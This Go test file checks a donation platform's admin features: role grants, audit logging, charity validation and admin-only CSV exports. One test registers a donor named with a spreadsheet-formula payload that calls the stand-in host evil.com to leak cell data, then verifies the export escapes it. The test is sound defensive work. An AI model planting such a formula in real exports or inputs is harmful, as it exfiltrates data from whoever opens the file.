package main

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/giveathon/giveathon/internal/testenv"
)

const meRoleOp = `{ me { email role } }`

// adminEmail is a fresh e-mail for a test's admin (ADMIN_EMAILS).
func adminEmail() string { return fmt.Sprintf("boss-%d@example.org", time.Now().UnixNano()) }

// admins is the program running with an admin e-mail in ADMIN_EMAILS.
type admins struct {
	*money
	// admin is a client signed in as that admin.
	admin *testenv.Client
	dbURL string
}

// setupAdmin starts the program with an admin e-mail in ADMIN_EMAILS and registers that admin.
func setupAdmin(t *testing.T, extraEnv ...string) *admins {
	t.Helper()
	email, dbURL := adminEmail(), testenv.URL(t)
	m := setupMoneyOn(t, dbURL, append([]string{"ADMIN_EMAILS=someone@example.org, " + strings.ToUpper(email)}, extraEnv...)...)
	token := m.srv.client.Do(t, registerOp, creds(email)).NoErrors(t).String("register", "token")
	return &admins{money: m, admin: m.srv.client.As(token), dbURL: dbURL}
}

// runCommand runs the binary with args against the database at dbURL and returns its output.
func runCommand(t *testing.T, dbURL string, args ...string) (string, error) {
	t.Helper()
	out := &syncBuffer{}
	p := &program{stdout: out, stderr: out, getenv: envFunc(map[string]string{"DATABASE_URL": dbURL, "LOG_LEVEL": "warn"})}
	err := p.run(context.Background(), args)
	return out.String(), err
}

func TestAdminEmailsAndAdminGrantRevoke(t *testing.T) {
	t.Parallel()
	m := setupAdmin(t)
	if r := m.admin.Do(t, meRoleOp, nil).NoErrors(t); r.String("me", "role") != "ADMIN" {
		t.Errorf("an ADMIN_EMAILS account: %s", r.Raw)
	}
	email := fmt.Sprintf("donor-%d@example.org", time.Now().UnixNano())
	donor := m.srv.client.As(m.srv.client.Do(t, registerOp, creds(email)).NoErrors(t).String("register", "token"))
	if r := donor.Do(t, meRoleOp, nil).NoErrors(t); r.String("me", "role") != "DONOR" {
		t.Errorf("a donor: %s", r.Raw)
	}
	if r := m.srv.client.Do(t, meRoleOp, nil).NoErrors(t); r.Get("me") != nil {
		t.Errorf("a visitor: %s", r.Raw)
	}

	url := m.dbURL
	roleAfterLogin := func() string {
		token := m.srv.client.Do(t, loginOp, login(email)).NoErrors(t).String("login", "token")
		return m.srv.client.As(token).Do(t, meRoleOp, nil).NoErrors(t).String("me", "role")
	}
	if out, err := runCommand(t, url, "admin", "grant", " "+strings.ToUpper(email)); err != nil || !strings.Contains(out, email+" is now admin") {
		t.Fatalf("admin grant: %v\n%s", err, out)
	}
	if role := roleAfterLogin(); role != "ADMIN" {
		t.Errorf("after admin grant: %s", role)
	}
	if out, err := runCommand(t, url, "admin", "revoke", email); err != nil || !strings.Contains(out, email+" is now donor") {
		t.Fatalf("admin revoke: %v\n%s", err, out)
	}
	if role := roleAfterLogin(); role != "DONOR" {
		t.Errorf("after admin revoke: %s", role)
	}
	// Both are in the audit log, with no actor (a command run on the server), newest first; a
	// revoke that changes nothing writes no line (they were not audited at all).
	if out, err := runCommand(t, url, "admin", "revoke", email); err != nil || !strings.Contains(out, email+" is now donor") {
		t.Fatalf("admin revoke again: %v\n%s", err, out)
	}
	r := m.admin.Do(t, `{ adminAuditLog(first: 2) { edges { node { actorId action objectType before after } } } }`, nil).NoErrors(t)
	for i, want := range []string{"adminRevoke", "adminGrant"} {
		node := r.Get("adminAuditLog", "edges", i, "node")
		if n, _ := node.(map[string]any); n == nil || n["action"] != want || n["actorId"] != nil || n["objectType"] != "User" {
			t.Errorf("audit line %d: want %s by no one, got %s", i, want, r.Raw)
		}
	}
	if r.Get("adminAuditLog", "edges", 0, "node", "after") != `{"role":"DONOR"}` || r.Get("adminAuditLog", "edges", 1, "node", "before") != `{"role":"DONOR"}` {
		t.Errorf("the roles before and after: %s", r.Raw)
	}
	// An account that ADMIN_EMAILS lists stays an admin: its revoke says so, and fails.
	listed := m.srv.client.Do(t, registerOp, creds("listed-"+email)).NoErrors(t).String("register", "user", "email")
	out := &syncBuffer{}
	prog := &program{stdout: out, stderr: out, getenv: envFunc(map[string]string{"DATABASE_URL": url, "LOG_LEVEL": "warn", "ADMIN_EMAILS": listed})}
	if err := prog.run(context.Background(), []string{"admin", "revoke", listed}); err == nil || !strings.Contains(err.Error(), "stays an admin while ADMIN_EMAILS lists it") {
		t.Errorf("admin revoke of an ADMIN_EMAILS account: %v\n%s", err, out)
	}
	if out, err := runCommand(t, url, "admin", "grant", "nobody-here@example.org"); err == nil || !strings.Contains(err.Error(), "must register first") {
		t.Errorf("admin grant of an unknown e-mail: %v\n%s", err, out)
	}
	if _, err := runCommand(t, url, "admin", "promote", email); err != errUsage {
		t.Errorf("admin with a bad verb: %v", err)
	}
}

// adminOps is every admin field and mutation, with variables that would work for an admin.
var adminOps = []struct{ name, query string }{
	{"adminDonations", `{ adminDonations(first: 5) { totalCount edges { node { id } donor { email } } } }`},
	{"adminAuditLog", `{ adminAuditLog(first: 5) { totalCount edges { node { id action } } } }`},
	{"createCharity", `mutation { createCharity(input: {name: "Nope Fund", ein: "12-3456789"}) { id } }`},
	{"updateCharity", `mutation { updateCharity(id: "00000000-0000-4000-8000-000000000000", input: {active: false}) { id } }`},
	{"refundDonation", `mutation { refundDonation(input: {donationId: "RG9uYXRpb246MDAwMDAwMDAtMDAwMC00MDAwLTgwMDAtMDAwMDAwMDAwMDAw"}) { id } }`},
}

func TestAdminFieldsRefuseVisitorsAndDonors(t *testing.T) {
	t.Parallel()
	m := setupAdmin(t)
	donor := m.donor(t)
	for _, op := range adminOps {
		if r := m.srv.client.Do(t, op.query, nil); r.Code() != "UNAUTHENTICATED" {
			t.Errorf("%s as a visitor: %s", op.name, r.Raw)
		}
		if r := donor.Do(t, op.query, nil); r.Code() != "FORBIDDEN" {
			t.Errorf("%s as a donor: %s", op.name, r.Raw)
		}
	}
	var n int
	if err := m.db.Pool.QueryRow(context.Background(), `SELECT count(*) FROM charities WHERE name = 'Nope Fund'`).Scan(&n); err != nil || n != 0 {
		t.Errorf("refused createCharity wrote %d charities (%v)", n, err)
	}
}

func TestCharitiesAreCreatedAndUpdatedWithAnAuditTrail(t *testing.T) {
	t.Parallel()
	m := setupAdmin(t)
	r := m.admin.Do(t, `mutation { createCharity(input: {name: "Harbour Lights Trust", ein: "98-7654321", description: "Lighthouses"}) { id slug name ein active } }`, nil).NoErrors(t)
	id := r.String("createCharity", "id")
	if r.String("createCharity", "slug") != "harbour-lights-trust" || r.Get("createCharity", "active") != true {
		t.Errorf("createCharity: %s", r.Raw)
	}
	if r := m.admin.Do(t, `mutation { createCharity(input: {name: "Other", ein: "98-7654321", slug: "harbour-lights-trust"}) { id } }`, nil); r.Code() != "CONFLICT" {
		t.Errorf("a taken slug: %s", r.Raw)
	}
	// A name with no letter a-z or digit asks for a slug; one with a hidden character says so.
	for name, want := range map[string]string{"日本語": "slug is required for this name", "a\u202eb": "control or invisible"} {
		r := m.admin.Do(t, `mutation($n: String!) { createCharity(input: {name: $n, ein: "98-7654321"}) { id } }`, map[string]any{"n": name})
		if r.Code() != "BAD_USER_INPUT" || len(r.Errors) == 0 || !strings.Contains(r.Errors[0].Message, want) {
			t.Errorf("createCharity named %q: want %q, got %s", name, want, r.Raw)
		}
	}
	if r := m.admin.Do(t, `mutation { createCharity(input: {name: "Bad EIN", ein: "123"}) { id } }`, nil); r.Code() != "BAD_USER_INPUT" || r.Field() != "ein" {
		t.Errorf("a bad EIN: %s", r.Raw)
	}
	r = m.admin.Do(t, `mutation($id: ID!) { updateCharity(id: $id, input: {name: "Harbour Lights", active: false}) { id name ein active } }`,
		map[string]any{"id": id}).NoErrors(t)
	if r.String("updateCharity", "name") != "Harbour Lights" || r.Get("updateCharity", "active") != false || r.String("updateCharity", "ein") != "98-7654321" {
		t.Errorf("updateCharity: %s", r.Raw)
	}
	if r := m.admin.Do(t, `mutation { updateCharity(id: "00000000-0000-4000-8000-000000000000", input: {active: false}) { id } }`, nil); r.Code() != "NOT_FOUND" {
		t.Errorf("updateCharity of an unknown charity: %s", r.Raw)
	}
	// An update that changes nothing writes no audit line (the count below stays 2).
	if r := m.admin.Do(t, `mutation($id: ID!) { updateCharity(id: $id, input: {name: "Harbour Lights"}) { name } }`, map[string]any{"id": id}).NoErrors(t); r.String("updateCharity", "name") != "Harbour Lights" {
		t.Errorf("an update that changes nothing: %s", r.Raw)
	}

	log := m.admin.Do(t, `{ adminAuditLog(first: 1) { totalCount edges { node { actorEmail action objectType objectId before after } }
		pageInfo { hasNextPage endCursor } } }`, nil).NoErrors(t)
	if log.Get("adminAuditLog", "totalCount") != float64(2) || log.Get("adminAuditLog", "pageInfo", "hasNextPage") != true {
		t.Fatalf("audit log: %s", log.Raw)
	}
	upd := func(k string) string { return log.String("adminAuditLog", "edges", 0, "node", k) }
	if upd("action") != "updateCharity" || upd("objectType") != "Charity" || upd("objectId") != id ||
		!strings.Contains(upd("actorEmail"), "boss-") || !strings.Contains(upd("before"), `"Name":"Harbour Lights Trust"`) ||
		!strings.Contains(upd("after"), `"Active":false`) {
		t.Errorf("the update's audit line: %s", log.Raw)
	}
	next := m.admin.Do(t, `query($a: String) { adminAuditLog(first: 5, after: $a) { edges { node { action before after } } pageInfo { hasNextPage } } }`,
		map[string]any{"a": log.String("adminAuditLog", "pageInfo", "endCursor")}).NoErrors(t)
	if next.String("adminAuditLog", "edges", 0, "node", "action") != "createCharity" || next.Get("adminAuditLog", "edges", 0, "node", "before") != nil ||
		next.Get("adminAuditLog", "pageInfo", "hasNextPage") != false {
		t.Errorf("the creation's audit line: %s", next.Raw)
	}
	// The log cannot be edited, even by SQL.
	if _, err := m.db.Pool.Exec(context.Background(), `UPDATE admin_audit_log SET action = 'x'`); err == nil || !strings.Contains(err.Error(), "append-only") {
		t.Errorf("UPDATE of the audit log: %v", err)
	}
	if _, err := m.db.Pool.Exec(context.Background(), `DELETE FROM admin_audit_log`); err == nil {
		t.Error("DELETE of the audit log worked")
	}
	// Accents are dropped from a slug made of a name ("日本語" asked for a slug above).
	if r := m.admin.Do(t, `mutation { createCharity(input: {name: "Éire Ökö Fund", ein: "98-7654321"}) { slug } }`, nil).NoErrors(t); r.String("createCharity", "slug") != "eire-oko-fund" {
		t.Errorf("the slug of an accented name: %s", r.Raw)
	}
}

func TestAdminDonationsSearchesEveryDonor(t *testing.T) {
	t.Parallel()
	m := setupAdmin(t)
	a, b := m.donor(t), m.donor(t)
	emailA := a.Do(t, `{ me { email } }`, nil).NoErrors(t).String("me", "email")
	ga := m.give(t, a, m.addCard(t, a, "pm_card_visa"), 1100)
	gb := m.give(t, b, m.addCard(t, b, "pm_card_chargeDeclined"), 2200)
	m.wait(t, a, ga, "SUCCEEDED")
	m.wait(t, b, gb, "FAILED")
	const q = `query($f: AdminDonationFilter, $a: String) { adminDonations(filter: $f, first: 1, after: $a) { totalCount
		edges { cursor node { id status amountCents attempts { status } } donor { email name } } pageInfo { hasNextPage endCursor } } }`
	all := m.admin.Do(t, q, nil).NoErrors(t)
	if all.Get("adminDonations", "totalCount") != float64(2) || all.String("adminDonations", "edges", 0, "node", "id") != gb {
		t.Fatalf("all donations: %s", all.Raw)
	}
	second := m.admin.Do(t, q, map[string]any{"a": all.String("adminDonations", "pageInfo", "endCursor")}).NoErrors(t)
	if second.String("adminDonations", "edges", 0, "node", "id") != ga || second.Get("adminDonations", "pageInfo", "hasNextPage") != false {
		t.Errorf("the second page: %s", second.Raw)
	}
	byEmail := m.admin.Do(t, q, map[string]any{"f": map[string]any{"email": strings.ToUpper(emailA), "status": "SUCCEEDED", "charityId": m.charity,
		"createdAfter": time.Now().Add(-time.Hour).Format(time.RFC3339), "createdBefore": time.Now().Add(time.Hour).Format(time.RFC3339)}}).NoErrors(t)
	if byEmail.Get("adminDonations", "totalCount") != float64(1) || byEmail.String("adminDonations", "edges", 0, "donor", "email") != emailA ||
		len(byEmail.Get("adminDonations", "edges", 0, "node", "attempts").([]any)) == 0 {
		t.Errorf("by e-mail and status: %s", byEmail.Raw)
	}
	if r := m.admin.Do(t, q, map[string]any{"f": map[string]any{"status": "REFUNDED"}}).NoErrors(t); r.Get("adminDonations", "totalCount") != float64(0) {
		t.Errorf("no refunded donations: %s", r.Raw)
	}
}

func TestJobsUIAndExportsAreForAdminsOnly(t *testing.T) {
	t.Parallel()
	m := setupAdmin(t)
	// A donor whose name is a spreadsheet formula.
	in := creds(fmt.Sprintf("formula-%d@example.org", time.Now().UnixNano()))
	in["i"].(map[string]any)["name"] = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
	donor := m.srv.client.As(m.srv.client.Do(t, registerOp, in).NoErrors(t).String("register", "token"))
	gift := m.give(t, donor, m.addCard(t, donor, "pm_card_visa"), 2550)
	m.wait(t, donor, gift, "SUCCEEDED")
	donorToken := donor.Token
	adminToken := m.admin.Token
	get := func(path, token string) (int, string) {
		req, _ := http.NewRequest(http.MethodGet, m.srv.url+path, nil)
		if token != "" {
			req.Header.Set("Authorization", "Bearer "+token)
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(b)
	}
	for _, path := range []string{"/admin/jobs/", "/admin/exports/donations.csv", "/admin/exports/charities.csv"} {
		if code, _ := get(path, ""); code != http.StatusUnauthorized {
			t.Errorf("%s for a visitor: %d", path, code)
		}
		if code, _ := get(path, donorToken); code != http.StatusForbidden {
			t.Errorf("%s for a donor: %d", path, code)
		}
	}
	if code, body := get("/admin/jobs/", adminToken); code != http.StatusOK || !strings.Contains(body, "River") {
		t.Errorf("River UI for an admin: %d %.200s", code, body)
	}
	// A change made through the job dashboard is in the audit log, by its admin (pausing the
	// payments queue stops every charge; it was not audited).
	put := func(path, token string) int {
		req, _ := http.NewRequest(http.MethodPut, m.srv.url+path, strings.NewReader(`{}`))
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("Authorization", "Bearer "+token)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		return resp.StatusCode
	}
	if code := put("/admin/jobs/api/queues/payments/pause", donorToken); code != http.StatusForbidden {
		t.Errorf("a donor pausing a queue: %d", code)
	}
	for _, verb := range []string{"pause", "resume"} {
		if code := put("/admin/jobs/api/queues/payments/"+verb, adminToken); code != http.StatusOK {
			t.Errorf("%s the payments queue: %d", verb, code)
		}
	}
	audit := m.admin.Do(t, `{ adminAuditLog(first: 3) { edges { node { actorEmail action objectType } } } }`, nil).NoErrors(t)
	for i, want := range []string{"jobs PUT /api/queues/payments/resume", "jobs PUT /api/queues/payments/pause"} {
		if audit.Get("adminAuditLog", "edges", i, "node", "action") != want || audit.Get("adminAuditLog", "edges", i, "node", "actorEmail") == "" {
			t.Errorf("audit line %d: want %s by the admin, got %s", i, want, audit.Raw)
		}
	}
	if audit.Get("adminAuditLog", "edges", 2, "node", "action") == "jobs PUT /api/queues/payments/pause" {
		t.Errorf("the donor's refused pause was audited: %s", audit.Raw)
	}
	code, body := get("/admin/exports/donations.csv?status=SUCCEEDED&charityId="+rawID(t, m.charity)+"&from="+
		time.Now().Add(-time.Hour).UTC().Format(time.RFC3339), adminToken)
	lines := strings.Split(strings.TrimSpace(body), "\n")
	if code != http.StatusOK || len(lines) != 2 || !strings.HasPrefix(lines[0], "donation_id,created_at,settled_at,status,amount,") ||
		!strings.HasPrefix(lines[1], rawID(t, gift)+",") || !strings.Contains(lines[1], ",SUCCEEDED,25.50,USD,") ||
		!strings.Contains(lines[1], `,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",`) {
		t.Errorf("donations.csv: %d\n%s", code, body)
	}
	if code, body := get("/admin/exports/donations.csv?status=FAILED", adminToken); code != http.StatusOK || strings.Count(body, "\n") != 1 {
		t.Errorf("donations.csv of FAILED: %d\n%s", code, body)
	}
	if code, _ := get("/admin/exports/donations.csv?from=yesterday", adminToken); code != http.StatusBadRequest {
		t.Errorf("a bad from: %d", code)
	}
	for method, want := range map[string]int{http.MethodHead: http.StatusOK, http.MethodPost: http.StatusMethodNotAllowed, http.MethodDelete: http.StatusMethodNotAllowed} {
		req, _ := http.NewRequest(method, m.srv.url+"/admin/exports/donations.csv", nil)
		req.Header.Set("Authorization", "Bearer "+adminToken)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != want || (want == http.StatusOK) != strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv") ||
			want == http.StatusMethodNotAllowed && (resp.Header.Get("Allow") != "GET, HEAD" || !strings.Contains(string(b), "GET")) {
			t.Errorf("%s of the export: %d %s %q", method, resp.StatusCode, resp.Header, b)
		}
	}
	if code, body := get("/admin/exports/donations.csv?charity_id="+rawID(t, m.charity), adminToken); code != http.StatusBadRequest ||
		!strings.Contains(body, `"charity_id" is not a filter of this export`) {
		t.Errorf("a misspelt filter (every donation was exported): %d %s", code, body)
	}
	if code, body := get("/admin/exports/donations.csv?status=SUCCEEDED&status=FAILED", adminToken); code != http.StatusBadRequest ||
		!strings.Contains(body, "status is given 2 times") {
		t.Errorf("a status given twice (the first was used alone): %d %s", code, body)
	}
	// A charity's id in a form PostgreSQL does not read was 200 with the header alone.
	if code, body := get("/admin/exports/donations.csv?charityId=urn:uuid:"+rawID(t, m.charity), adminToken); code != http.StatusBadRequest ||
		!strings.Contains(body, "is not a charity's id") {
		t.Errorf("a charityId as a urn: %d %s", code, body)
	}
	code, body = get("/admin/exports/charities.csv", adminToken)
	if code != http.StatusOK || !strings.Contains(body, rawID(t, m.charity)) || !strings.Contains(body, ",1,25.50,0,0.00,0,0.00,25.50,") {
		t.Errorf("charities.csv: %d\n%s", code, body)
	}
}
